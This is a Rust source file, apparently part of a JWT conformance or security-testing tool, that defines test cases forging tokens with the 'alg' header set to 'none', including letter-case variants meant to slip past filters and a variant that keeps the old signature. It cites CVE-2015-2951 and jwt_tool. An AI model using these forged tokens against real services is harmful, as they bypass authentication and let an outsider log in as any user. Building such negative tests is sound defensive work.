//! `alg` none: tokens without a signature.

use crate::defects::{Alias, Argument, Attacker, Defect, Gains, Inject};
use crate::mint::Signing;
use crate::spec::requirements::alg;

/// Every entry of this file.
pub(super) static ALL: &[Defect] = &[
    Defect {
        id: "sig.alg-none",
        summary: "sets `alg` to none and leaves the signature empty",
        inject: &[
            Inject::Header(|draft, _| draft.header.set("alg", "none")),
            Inject::Key(|draft, _| draft.sign_with(Signing::None)),
        ],
        evidence: &["CVE-2015-2951", "jwt_tool -X a"],
        docs: "The oldest hole of all. The token ends with its second dot (RFC 7519 section 6.1).",
        ..UNSIGNED
    },
    Defect {
        id: "sig.alg-none-case",
        aliases: &[
            Alias { name: "sig.alg-none-capital", argument: Some("None") },
            Alias { name: "sig.alg-none-upper", argument: Some("NONE") },
        ],
        summary: "spells the `alg` none with other letter case, without a signature",
        argument: Argument::OneOf(&["None", "NONE", "nOnE", "noNE"]),
        inject: &[
            Inject::Header(|draft, cx| draft.header.set("alg", cx.argument.text())),
            Inject::Key(|draft, _| draft.sign_with(Signing::None)),
        ],
        evidence: &["jwt_tool -X a", "draft-ietf-oauth-rfc8725bis section 2.11"],
        docs: "Gets past a filter that compares with `none` in lower case, before a library that \
               folds case. `alg` is case-sensitive: this is no registered name at all.",
        ..UNSIGNED
    },
    Defect {
        id: "sig.alg-none-keep-signature",
        summary: "sets `alg` to none and keeps the signature of the sound token",
        inject: &[Inject::Header(|draft, _| draft.header.set("alg", "none"))],
        evidence: &["jwt_tool"],
        docs: "Gets past a check that a signature is there.",
        ..UNSIGNED
    },
];

const UNSIGNED: Defect = Defect {
    breaks: &[&alg::NOT_NONE],
    attacker: Attacker::Outsider,
    gains: Gains::LoginAsAnyone,
    ..Defect::PLAIN
};
